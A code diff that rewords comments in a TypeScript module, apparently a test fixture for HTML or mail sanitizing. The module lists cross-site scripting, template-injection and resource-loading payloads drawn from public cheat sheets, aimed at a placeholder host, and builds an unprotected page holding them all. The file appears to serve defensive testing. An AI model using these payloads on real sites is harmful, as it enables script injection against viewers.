@@ -1,11 +1,11 @@
 /**
- * Content that attacks who looks at it. Code in it calls `ran` with the number of its payload, and what it loads
- * is at ELSEWHERE. Sources: the cheat sheets of OWASP and PortSwigger, html5sec, and what mail adds to them.
+ * Content that attacks its viewers. Its code calls `ran` with the number of its payload, and its resources are at
+ * ELSEWHERE. Sources: the cheat sheets of OWASP and PortSwigger, html5sec, and our own for mail.
  */
 
 export const ELSEWHERE = 'https://elsewhere.invalid';
 
-/** Run at once where nothing protects. RUN: the call. */
+/** Payloads that run at once on an unprotected page. RUN is replaced by the call. */
 const RUN_AT_ONCE = [
   '<script>RUN</script>',
   '<ScRiPt >RUN</sCrIpT>',
@@ -65,7 +65,7 @@ const RUN_AT_ONCE = [
   `';RUN//";RUN//--></script>">'><script>RUN</script>`,
 ];
 
-/** Run when they are clicked. */
+/** Payloads that run when they are clicked. */
 const RUN_WHEN_CLICKED = [
   '<a href="javascript:RUN">x</a>',
   '<a href="JaVaScRiPt:RUN">x</a>',
@@ -80,7 +80,7 @@ const RUN_WHEN_CLICKED = [
   '<svg><a href="javascript:RUN"><text y="20">x</text></a></svg>',
 ];
 
-/** Ask another server for something, at the latest when a font or an image is needed. */
+/** Payloads that load something from another server, at the latest when a font or image is needed. */
 const LOAD = [
   '<img src="ELSEWHERE">',
   '<img srcset="ELSEWHERE 1x">',
@@ -108,7 +108,7 @@ const LOAD = [
   `<img src='ELSEWHERE?><p>what follows</p>'>`,
 ];
 
-/** Attack what is made of them: templates, tables, what readers believe. */
+/** Payloads that attack templates, tables, or the trust of readers. */
 const WORDS = [
   `{{constructor.constructor('RUN')()}}`,
   '${RUN}',
@@ -153,7 +153,7 @@ export const PAYLOADS: readonly Payload[] = Object.entries(BY_KIND)
       .replaceAll('ELSEWHERE', `${ELSEWHERE}/${number}`),
   }));
 
-/** A page in which each has a document of its own, and nothing protects. */
+/** Returns an unprotected page in which each payload has its own document. */
 export function unprotectedPage(): string {
   const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
   const frames = PAYLOADS.map(({ number, text }) => {
